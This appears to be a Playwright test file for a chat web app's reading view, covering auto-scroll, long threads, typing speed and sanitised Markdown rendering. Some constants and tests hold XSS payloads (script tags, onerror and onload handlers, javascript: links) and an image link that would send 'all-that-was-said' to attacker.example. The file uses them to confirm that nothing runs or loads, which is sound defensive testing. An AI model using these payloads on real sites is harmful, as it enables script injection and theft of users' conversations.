"""What is read: text that grows without moving its reader, Markdown without danger, threads of any length."""

import asyncio
import statistics
from collections.abc import Awaitable
from typing import Any

from playwright.async_api import BrowserContext, Locator, Page, expect

from tests.support.client import Client
from tests.support.stack import Stack
from tests.web.conftest import NewDevice
from tests.web.steps import answer_of, ask, at_rest, box_of, choose, come_in, new_user, region_of, rows_of, say

_SHOWN = (50, 500)  # messages that the page holds while it is typed in and answered
_FRAME = "ProxyMain::BeginMainFrame"  # one frame of the page's thread, as browsers trace it
_FROM_END = "(box) => box.scrollHeight - box.scrollTop - box.clientHeight"
_IN_WORK = """[...document.querySelectorAll(".turn")]
    .filter((turn) => turn.checkVisibility({ contentVisibilityAuto: true })).length"""  # laid out and painted
_ITEMS_PER_REQUEST = 20
_ANSWER = """\
Answer **{n}**

- a
- b

```js
x = {n}
```

| a | b |
|---|---|
| 1 | 2 |"""
_MARKDOWN = """\
[[demo: echo]] # Plan

A [link](https://example.org/?q=1), `code`, ![secret](https://attacker.example/?q=all-that-was-said) and <b>raw</b>.

```python
print("a rather long line, so that the block scrolls by itself and not the page" * 3, "and even more, and more")
```

| a | b |
|---|---|
| 1 | 2 |

![data](data:image/svg+xml;base64,PHN2Zy8+) [run](javascript:alert(1)) [also](data:text/html,x) <javascript:alert(2)>
<img src=x onerror="window.hacked = 1"><script>window.hacked = 1</script><iframe src="https://attacker.example"></iframe>
<svg onload="window.hacked = 1"></svg> <style>body { display: none }</style> <a href="https://attacker.example">x</a>
"""
_ATTACK = '<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>![x](https://attacker.example/x.png)'


async def _stored(stack: Stack, user: str, count: int) -> str:
    """A new conversation of `count` stored messages."""
    client = Client(stack.gateway().url, user)
    conversation: str = (await client.http.post("/v1/conversations", json={"title": "Long"})).json()["id"]
    messages = [
        {"type": "message", "role": role, "content": text}
        for n in range(count // 2)
        for role, text in (("user", f"question {n}"), ("assistant", _ANSWER.format(n=n)))
    ]
    for start in range(0, count, _ITEMS_PER_REQUEST):
        items = messages[start : start + _ITEMS_PER_REQUEST]
        answer = await client.http.post(f"/v1/conversations/{conversation}/items", json={"items": items})
        assert answer.status_code == 200, answer.text
    await client.close()
    return conversation


async def _stays(region: Locator) -> bool:
    """Whether what is read stays in its place while an answer grows by some."""
    moved: float = await region.evaluate(
        """async (box) => {
            const first = box.scrollTop;
            const height = box.scrollHeight;
            let moved = 0;
            while (box.scrollHeight < height + 60) {
                await new Promise((resolve) => setTimeout(resolve, 50));
                moved = Math.max(moved, Math.abs(box.scrollTop - first));
            }
            return moved;
        }"""
    )
    return moved < 2


async def _leaves(region: Locator, movement: Awaitable[None]) -> None:
    """Have the reader leave the end by `movement`, which browsers animate, and wait until it is over."""
    await region.evaluate(
        """(box) => {
            const frame = () => new Promise((resolve) => requestAnimationFrame(resolve));
            box.left = (async () => {
                const deadline = performance.now() + 20_000;
                for (let [end, last, still] = [box.scrollTop, -1, 0]; still < 5; last = box.scrollTop) {
                    await frame();
                    end = Math.max(end, box.scrollTop);
                    still = box.scrollTop === last && last < end - 100 ? still + 1 : 0;
                    if (performance.now() > deadline) throw new Error("the reader did not get away from the end");
                }
            })();
        }"""
    )
    await movement
    await region.evaluate("(box) => box.left")


async def test_the_end_is_followed_only_by_a_reader_who_is_there(device: BrowserContext) -> None:
    page = await come_in(device, new_user())
    region = region_of(page)
    await say(page, "[[demo: fault=endless delay_ms=4]] long")
    await page.wait_for_function("() => document.querySelector('.scroll').scrollTop > 300")
    assert await region.evaluate(_FROM_END) < 40

    await region.hover()
    await _leaves(region, page.mouse.wheel(0, -300))
    to_end = page.get_by_role("button", name="To the end: something new is there")
    await expect(to_end).to_be_visible()
    assert await _stays(region)
    await to_end.click()
    await expect(to_end).to_have_count(0)
    await page.wait_for_function(f"() => ({_FROM_END})(document.querySelector('.scroll')) < 40")
    await _leaves(region, region.press("PageUp"))
    await expect(to_end).to_be_visible()
    assert await _stays(region)
    place = await region.evaluate("(box) => box.scrollTop")
    await page.keyboard.press("Escape")
    await at_rest(page)
    assert abs(await region.evaluate("(box) => box.scrollTop") - place) < 2


async def test_a_scrolling_that_is_told_of_late_takes_no_reader_back_to_the_end(device: BrowserContext) -> None:
    """The page scrolls by itself, the reader leaves, and only then the page hears of its own scrolling."""
    page = await come_in(device, new_user())
    region = region_of(page)
    await say(page, "[[demo: fault=endless delay_ms=4]] long")
    await page.wait_for_function("() => document.querySelector('.scroll').scrollTop > 300")

    await region.evaluate(
        """(box) => {
            box.dispatchEvent(new WheelEvent("wheel", { deltaY: -1, bubbles: true }));
            box.dispatchEvent(new Event("scroll"));
        }"""
    )
    assert await _stays(region)
    to_end = page.get_by_role("button", name="To the end: something new is there")
    await expect(to_end).to_be_visible()

    await region.hover()
    await page.mouse.wheel(0, 100_000)  # the reader's own way there counts
    await expect(to_end).to_have_count(0)
    await page.wait_for_function(f"() => ({_FROM_END})(document.querySelector('.scroll')) < 40")
    await page.keyboard.press("Escape")
    await at_rest(page)


async def test_a_long_thread_opens_at_its_end_and_earlier_pages_do_not_move_it(
    device: BrowserContext, stack: Stack
) -> None:
    user = new_user()
    conversation = await _stored(stack, user, 120)
    page = await come_in(device, user, f"/#/{conversation}")
    region = region_of(page)
    earlier = page.get_by_role("button", name="Show earlier messages")
    await expect(page.get_by_role("article")).to_have_count(50)
    assert await region.evaluate(_FROM_END) < 3

    await region.evaluate("(box) => { box.scrollTop = 0; }")
    first = page.get_by_text("question 35", exact=True)
    before = await first.bounding_box()
    await earlier.click()
    await expect(page.get_by_role("article")).to_have_count(100)
    after = await first.bounding_box()
    assert before
    assert after
    assert abs(after["y"] - before["y"]) < 2
    await earlier.click()
    await expect(page.get_by_role("article")).to_have_count(120)
    await expect(earlier).to_have_count(0)

    # What is out of sight is left out by the browser, and its height kept: on the way through nothing jumps.
    height = await region.evaluate("(box) => { box.scrollTop = box.scrollHeight; return box.scrollHeight; }")
    await page.wait_for_function(f"() => ({_IN_WORK}) < 120")
    await expect(first).to_be_visible()  # and can be found, read out and gone to all the same
    heights = await region.evaluate(
        """async (box) => {
            const heights = [];
            while (box.scrollTop > 0) {
                box.scrollTop -= box.clientHeight / 2;
                await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
                heights.push(box.scrollHeight);
            }
            return heights;
        }"""
    )
    assert all(abs(each - height) < 2 for each in heights), heights


async def _keystrokes_ms(page: Page) -> float:
    """The median time that a key takes until the page is laid out again."""
    times: list[float] = await box_of(page).evaluate(
        """async (box) => {
            const set = Object.getOwnPropertyDescriptor(HTMLTextAreaElement.prototype, "value").set;
            const times = [];
            for (let key = 0; key < 20; key += 1) {
                await new Promise((resolve) => requestAnimationFrame(resolve));
                const start = performance.now();
                set.call(box, box.value + "x");
                box.dispatchEvent(new InputEvent("input", { bubbles: true }));
                box.offsetHeight;
                times.push(performance.now() - start);
            }
            return times;
        }"""
    )
    await box_of(page).fill("")
    return statistics.median(times)


async def _frame_costs_ms(page: Page) -> list[float]:
    """What the frames cost while an answer grows, sorted: the time that the page's thread computed for each.

    A busy machine makes frames wait for a processor, but cost no more.
    """
    wire = await page.context.new_cdp_session(page)
    events: list[dict[str, Any]] = []
    is_whole = asyncio.Event()
    wire.on("Tracing.dataCollected", lambda part: events.extend(part["value"]))
    wire.on("Tracing.tracingComplete", lambda _: is_whole.set())
    await box_of(page).fill("[[demo: tokens=60 delay_ms=20]] go")
    await wire.send("Tracing.start", {"transferMode": "ReportEvents", "traceConfig": {"includedCategories": ["cc"]}})
    await page.evaluate(
        """async () => {
            const key = { key: "Enter", bubbles: true, cancelable: true };
            document.querySelector("#message").dispatchEvent(new KeyboardEvent("keydown", key));
            const column = document.querySelector(".column");
            for (let text = ""; !text.includes("w59"); ) {
                await new Promise((resolve) => requestAnimationFrame(resolve));
                // In the last rows alone: looking through all of a long thread would cost a frame of its own.
                text = column.lastElementChild.querySelector(".turn:last-child .prose")?.textContent ?? "";
            }
        }"""
    )
    await wire.send("Tracing.end")
    await is_whole.wait()
    await wire.detach()
    await at_rest(page)
    costs = sorted(event["tdur"] / 1000 for event in events if event["name"] == _FRAME and "tdur" in event)
    assert costs
    return costs


async def _show_earlier(page: Page, count: int) -> None:
    """Until there are so many messages on the page."""
    while await page.get_by_role("article").count() < count:
        async with page.expect_response(lambda answer: "/items?" in answer.url):
            await page.locator(".earlier:not(:disabled)").click()


async def test_typing_and_frames_are_as_quick_in_a_long_thread_as_in_a_short_one(
    device: BrowserContext, stack: Stack
) -> None:
    """Of 2,000 stored messages 50 are shown, then 500. `pytest -s` shows more."""
    user = new_user()
    conversation = await _stored(stack, user, 2_000)
    page = await come_in(device, user)
    await page.evaluate("(id) => { window.opened = performance.now(); location.hash = `/${id}`; }", conversation)
    await expect(page.get_by_role("article")).to_have_count(50)
    opening = await page.evaluate("performance.now() - opened")
    keys, frames = {}, {}
    for count in _SHOWN:
        await _show_earlier(page, count)
        # However long the thread is, the browser has to do with some fifty turns of it.
        await page.wait_for_function(f"() => ({_IN_WORK}) <= {2 * _SHOWN[0]}")
        keys[count], frames[count] = await _keystrokes_ms(page), await _frame_costs_ms(page)
    print(f"\nopening 2,000 stored messages: {opening:.0f} ms")  # noqa: T201 - measured, not asserted
    for count, times in frames.items():
        p50, p95 = (times[int(len(times) * share)] for share in (0.5, 0.95))
        print(f"{count} shown: key {keys[count]:.1f} ms, frame p50 {p50:.1f} ms, p95 {p95:.1f} ms")  # noqa: T201

    few, many = _SHOWN[0], _SHOWN[-1]
    assert keys[many] <= max(5 * keys[few], 30)
    assert statistics.median(frames[many]) <= max(5 * statistics.median(frames[few]), 50)


async def test_markdown_is_shown_and_nothing_in_it_runs_loads_or_leads_astray(new_device: NewDevice) -> None:
    device = await new_device(permissions=["clipboard-read", "clipboard-write"])
    page = await come_in(device, new_user())
    await ask(page, _MARKDOWN)
    for _ in ("as it came", "as it was stored"):
        prose = answer_of(page).locator(".prose")
        await expect(prose.get_by_role("heading", name="Plan")).to_be_visible()
        await expect(prose.get_by_role("table")).to_be_visible()
        await expect(prose).to_contain_text("Image not loaded: secret")
        await expect(prose).to_contain_text("<b>raw</b>")
        assert await prose.locator("img, script, iframe, svg:not(.icon), style, b").count() == 0
        links = await prose.locator("a").evaluate_all("(all) => all.map((link) => [link.href, link.target, link.rel])")
        assert links
        assert all(href.startswith("https://example.org/") for href, _, _ in links), links
        assert all((target, rel) == ("_blank", "noopener noreferrer") for _, target, rel in links)
        code = prose.locator("figure")
        await expect(code).to_contain_text("python")
        assert await code.locator("pre").evaluate("(box) => box.scrollWidth > box.clientWidth")
        assert await page.evaluate("document.documentElement.scrollWidth <= innerWidth")
        await page.reload()
        await expect(answer_of(page)).to_contain_text("Plan")
    await answer_of(page).get_by_role("button", name="Copy code").click()
    copied = await page.evaluate("navigator.clipboard.readText()")
    assert copied.startswith('print("a rather long line')
    await answer_of(page).get_by_role("button", name="Copy", exact=True).click()
    assert "| a | b |" in await page.evaluate("navigator.clipboard.readText()")
    assert await page.evaluate("typeof window.hacked") == "undefined"


async def test_half_a_fence_is_never_shown_as_text(device: BrowserContext) -> None:
    page = await come_in(device, new_user())
    await page.evaluate(
        """() => {
            window.seen = new Set();
            new MutationObserver(() => {
                for (const { textContent } of document.querySelectorAll(".prose p"))
                    if (textContent.includes("`")) window.seen.add(textContent);
            }).observe(document.body, { childList: true, subtree: true, characterData: true });
        }"""
    )
    fenced = "Look:\n\n```js\nlet a = 1\nlet b = 2\n```\n\nand\n\n```\nplain\n```\n\ndone"
    await ask(page, f"[[demo: echo delay_ms=15]] {fenced}")
    await expect(answer_of(page).locator("figure")).to_have_count(2)
    assert await page.evaluate("[...seen]") == []


async def test_titles_tasks_and_results_of_tools_are_text_whatever_they_hold(device: BrowserContext) -> None:
    user = new_user()
    page = await come_in(device, user)
    await ask(page, "[[demo: call=add_task args=" + '{"title": "<img src=x onerror=window.hacked=1>"}]] go')
    await ask(page, "[[demo: call=list_tasks]] go")
    await choose(rows_of(page).first, "Rename")
    await page.get_by_label("New title").fill(_ATTACK)
    await page.keyboard.press("Enter")
    await expect(page.get_by_role("heading", level=1)).to_have_text(_ATTACK)
    await page.locator("details.tool").last.locator("summary").click()
    await expect(page.locator("details.tool").last).to_contain_text("<img src=x onerror=window.hacked=1>")
    await expect(page.get_by_role("complementary", name="Tasks")).to_contain_text("<img src=x")
    await expect(rows_of(page).first).to_contain_text("<script>")
    await say(page, _ATTACK)
    await at_rest(page)
    assert await page.locator("#root").locator("img, script, iframe").count() == 0
    assert await page.evaluate("typeof window.hacked") == "undefined"
